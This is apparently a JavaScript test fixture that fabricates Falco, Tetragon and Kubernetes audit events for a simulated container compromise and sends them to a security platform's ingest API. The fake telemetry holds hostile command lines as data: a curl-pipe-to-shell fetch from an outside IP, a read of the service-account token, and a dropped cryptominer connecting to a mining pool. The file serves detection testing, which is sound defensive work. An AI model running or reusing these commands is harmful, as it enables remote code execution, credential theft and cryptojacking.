// An attack on the workload `checkout` of `tests/fixtures/cluster`, as its sensors would tell of it: a shell out of the web
// server, a look at the tokens, a binary that was not in the image, and the account of the pod reading a secret.
import { expect } from "./harness.mjs";

/** The uid of `kube-system` in `tests/fixtures/cluster`. */
export const CLUSTER = "5f1d8a3e-0000-4000-8000-00000000c1a5";
const IMAGE = "registry.example/checkout";
const CONTAINER = "3ad7b26ded6db7b0b4b1a5a0ff0cbc8a1c2a9a0c7f9e8d7c6b5a493827161504";
const ACCOUNT = "system:serviceaccount:store:checkout";

/** What happens, by tenths of seconds after its beginning. Each run is another pod, so that its rows can be told from earlier ones. */
function story(begin, pod) {
  const at = (tenths) => new Date(begin + tenths * 100).toISOString();
  // Each pod has a container of its own.
  const container = Buffer.from(pod.slice(-6)).toString("hex") + CONTAINER.slice(12);
  const alert = (tenths, rule, priority, tags, fields) => ({
    hostname: "node-1",
    time: at(tenths),
    rule,
    priority,
    source: "syscall",
    tags: ["maturity_stable", "container", ...tags],
    output: `${rule} | container_id=${container.slice(0, 12)} k8s_pod=${pod}`,
    output_fields: {
      "container.id": container.slice(0, 12),
      "container.image.repository": IMAGE,
      "container.image.tag": "latest",
      "container.name": "app",
      "evt.time": (begin + tenths * 100) * 1_000_000,
      "k8s.ns.name": "store",
      "k8s.pod.name": pod,
      "k8s.pod.uid": `uid-${pod}`,
      "user.name": "root",
      "user.uid": 0,
      ...fields,
    },
  });
  const process = (pid, parent, tenths, binary, args) => ({
    exec_id: `${pod}:${pid}`,
    pid,
    uid: 0,
    cwd: "/app",
    binary,
    arguments: args,
    flags: "execve clone",
    start_time: at(tenths),
    auid: 4294967295,
    pod: {
      namespace: "store",
      name: pod,
      uid: `uid-${pod}`,
      container: { id: `containerd://${container}`, name: "app", image: { id: "", name: `${IMAGE}:latest` } },
      workload: "checkout",
      workload_kind: "Deployment",
    },
    docker: container.slice(0, 31),
    parent_exec_id: parent ? `${pod}:${parent}` : "",
    tid: pid,
  });
  const node = process(12, 0, -36_000, "/usr/local/bin/node", "server.js");
  const shell = process(4242, 12, 0, "/bin/sh", '-c "curl -s http://198.51.100.9/x | sh"');
  const curl = process(4243, 4242, 1, "/usr/bin/curl", "-s http://198.51.100.9/x");
  const look = process(4250, 4242, 20, "/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token");
  const miner = process(
    4260,
    4242,
    40,
    "/tmp/.x/kworker",
    "-o stratum+tcp://pool.example.net:3333 -u 44AFFq5kSiGBoZ",
  );
  const begun = (of, parent, tenths) => ({
    process_exec: { process: of, parent },
    node_name: "node-1",
    time: at(tenths),
  });
  const call = (tenths, verb, resource, name, rest) => ({
    kind: "Event",
    apiVersion: "audit.k8s.io/v1",
    level: "Metadata",
    auditID: `${pod}-${tenths}`,
    stage: "ResponseComplete",
    requestURI: `/api/v1/namespaces/store/${resource}/${name}`,
    verb,
    user: {
      username: ACCOUNT,
      groups: ["system:serviceaccounts", "system:serviceaccounts:store", "system:authenticated"],
      extra: {
        "authentication.kubernetes.io/pod-name": [pod],
        "authentication.kubernetes.io/pod-uid": [`uid-${pod}`],
      },
    },
    sourceIPs: ["10.0.3.17"],
    userAgent: "curl/8.9",
    objectRef: { resource, namespace: "store", name, apiVersion: "v1" },
    responseStatus: { metadata: {}, code: 200 },
    requestReceivedTimestamp: at(tenths),
    stageTimestamp: at(tenths),
    annotations: { "authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": "" },
    ...rest,
  });
  const shellOf = { "proc.name": "sh", "proc.exepath": "/bin/sh", "proc.pid": 4242, "proc.ppid": 12 };
  return {
    tetragon: [
      begun(shell, node, 0),
      begun(curl, shell, 1),
      begun(look, shell, 20),
      begun(miner, shell, 40),
      {
        process_kprobe: {
          process: miner,
          parent: shell,
          function_name: "tcp_connect",
          args: [
            {
              sock_arg: {
                family: "AF_INET",
                type: "SOCK_STREAM",
                protocol: "IPPROTO_TCP",
                saddr: "10.0.3.17",
                daddr: "198.51.100.9",
                sport: 45210,
                dport: 3333,
                state: "TCP_SYN_SENT",
              },
            },
          ],
          action: "KPROBE_ACTION_POST",
          policy_name: "connect",
          return_action: "KPROBE_ACTION_POST",
        },
        node_name: "node-1",
        time: at(42),
      },
    ],
    falco: [
      alert(2, "Terminal shell in container", "Warning", ["shell", "mitre_execution", "T1059"], {
        ...shellOf,
        "proc.cmdline": 'sh -c "curl -s http://198.51.100.9/x | sh"',
        "proc.pname": "node",
      }),
      alert(
        21,
        "Read sensitive file untrusted",
        "Warning",
        ["filesystem", "mitre_credential_access", "T1555"],
        {
          "proc.name": "cat",
          "proc.exepath": "/bin/cat",
          "proc.pid": 4250,
          "proc.ppid": 4242,
          "proc.pname": "sh",
          "proc.cmdline": "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
          "fd.name": "/var/run/secrets/kubernetes.io/serviceaccount/token",
        },
      ),
      alert(
        41,
        "Drop and execute new binary in container",
        "Critical",
        ["process", "mitre_persistence", "TA0003"],
        {
          "proc.name": "kworker",
          "proc.exepath": "/tmp/.x/kworker",
          "proc.pid": 4260,
          "proc.ppid": 4242,
          "proc.pname": "sh",
          "proc.cmdline": "kworker -o stratum+tcp://pool.example.net:3333 -u 44AFFq5kSiGBoZ",
        },
      ),
    ],
    "kubernetes-audit": [
      call(30, "get", "secrets", "database"),
      call(35, "list", "secrets", "", { responseStatus: { metadata: {}, code: 403, reason: "Forbidden" } }),
      call(50, "create", "pods", `${pod}/exec`, {
        requestURI: `/api/v1/namespaces/store/pods/${pod}/exec?command=id&container=app&stdout=true`,
        user: { username: "mallory@example.org", groups: ["developers", "system:authenticated"] },
        sourceIPs: ["203.0.113.7"],
        userAgent: "kubectl/v1.37.1 (linux/amd64)",
        objectRef: { resource: "pods", namespace: "store", name: pod, apiVersion: "v1", subresource: "exec" },
        responseStatus: { metadata: {}, code: 101 },
      }),
    ],
  };
}

/** Makes what the sensors of an attack need and sends their events; the pod that was attacked. */
export async function attack({ origin, token: operator, browser }) {
  // Tokens and no session: one of people for making sources, and one for each sensor.
  const sending = await browser.newContext({ baseURL: origin });
  const mark = Date.now().toString(36);
  const pod = `checkout-7d9-${mark.slice(-5)}`;
  const events = story(Date.now() - 6000, pod);
  for (const [format, told] of Object.entries(events)) {
    const name = `${format}-${mark}`;
    const made = await sending.request.post("/api/v1/runtime/sources", {
      headers: { authorization: `Bearer ${operator}` },
      data: { name, format, cluster: CLUSTER },
    });
    expect(
      made.status() === 201,
      `making the source ${name} answered ${made.status()}: ${await made.text()}`,
    );
    const { token } = await made.json();
    // Bytes, as a string of many values would be sent as one quoted string.
    const body = Buffer.from(told.map((each) => JSON.stringify(each)).join("\n"));
    const answer = await sending.request.post(`/api/v1/ingest/${name}`, {
      headers: { authorization: `Bearer ${token}`, "content-type": "application/json" },
      data: body,
    });
    expect(
      answer.status() === 200,
      `the events of ${name} answered ${answer.status()}: ${await answer.text()}`,
    );
  }
  await sending.close();
  return { pod, mark, sources: Object.keys(events).map((format) => `${format}-${mark}`) };
}
